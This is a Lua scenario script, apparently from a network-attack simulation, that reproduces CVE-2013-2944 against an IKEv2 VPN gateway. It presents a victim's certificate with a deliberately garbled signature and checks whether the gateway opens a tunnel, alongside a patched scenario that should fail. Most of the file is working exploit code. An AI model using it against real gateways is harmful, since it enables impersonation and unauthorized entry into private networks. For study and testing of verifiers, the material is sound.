-- Certificates are public: they are shown to everybody who calls. What makes somebody their owner is the signature that only the private
-- key can make. A verifier that takes "I could not read this signature" for "it is right" gives that away.
attack = {
  id = "CVE-2013-2944", name = "certificate-thief",
  about = "Authenticates with somebody else's certificate and a signature that is no signature",
  position = "off-path",
  needs = "the victim's certificate, without its private key",
  source = "CVE-2013-2944; RFC 7427, 3",
  shows = {
    vulnerable = "the garbled signature counts: the gateway believes that the victim has called, and opens a tunnel",
    hardened = "the signature does not verify: AUTHENTICATION_FAILED",
  },
  scenarios = { vulnerable = "certificate-thief", hardened = "certificate-thief-patched" },
}

-- Parameters: target, own, victim = the node whose certificate it holds, id = its identity, first, last = addresses it asks for
local p, me = nil, nil
local goal = "be somebody else"
local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }
local esp_proposal = { number = 1, protocol = 3, transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 5, id = 0 } } }

function on_start(params)
  p = params
  assert(p.target and p.own and p.victim and p.id, "parameters target, own, victim, id")
  timer.after("1s", "begin")
end

local function send(note, payload)
  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
end

function on_timer()
  me = { pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
  me.request = ike.encode{ spi_i = me.spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
    payloads = { ike.sa(proposal), ike.ke(me.pair), ike.nonce(me.nonce), ike.notify(16431, "\0\2\0\3\0\4\0\5") } }
  send("IKE_SA_INIT, under its own address", me.request)
end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if not me or message.spi_i ~= me.spi or not find(message, "KE") then return end
  me.suite = ike.suite(find(message, "SA").proposals[1])
  me.keys = ike.keys(me.suite, { ni = me.nonce, nr = find(message, "Ni/Nr").data, shared = crypto.shared(me.pair, find(message, "KE").data),
    spi_i = me.spi, spi_r = message.spi_r })
  ring.ike(me.spi, me.suite, me.keys)
  -- ecdsa-with-SHA256 by name (RFC 7427, A.3.2), and eight octets that are no signature of any kind
  local identifier = bytes.from_hex("300a06082a8648ce3d040302")
  esp_proposal.spi = crypto.random(4)
  send("IKE_AUTH with " .. p.victim .. "'s certificate and a garbled signature", ike.seal({ spi_i = me.spi, spi_r = message.spi_r, exchange = 35,
    initiator = true, message_id = 1, payloads = {
      ike.id("i", 2, p.id), ike.cert(held("cert:" .. p.victim)), ike.auth(14, string.char(#identifier) .. identifier .. "garbage!"),
      ike.sa(esp_proposal), ike.ts("i", p.first or "10.8.0.66", p.last or "10.8.0.66"), ike.ts("r", "10.2.0.0", "10.2.0.255") } }, me.suite, me.keys))
end)

on({ exchange = "IKE_AUTH", response = true }, function(packet)
  local inner = me and ring.open(packet)
  if not inner or me.done then return end
  me.done = true
  if notify_of(inner, "AUTHENTICATION_FAILED") then return achieved(goal, false, "AUTHENTICATION_FAILED: the signature was really looked at") end
  local id = find(inner, "IDr")
  learn("identity", id.id_type_name .. " " .. id.data .. " believes to talk to " .. p.id, "IKE_AUTH response opened", id.data)
  achieved(goal, true, "the gateway believes that " .. p.id .. " has called" .. (find(inner, "SA") and ", and opened a tunnel into its network" or ""))
end)

function on_finish()
  if not (me and me.done) then achieved(goal, false, "IKE_AUTH was not answered") end
end
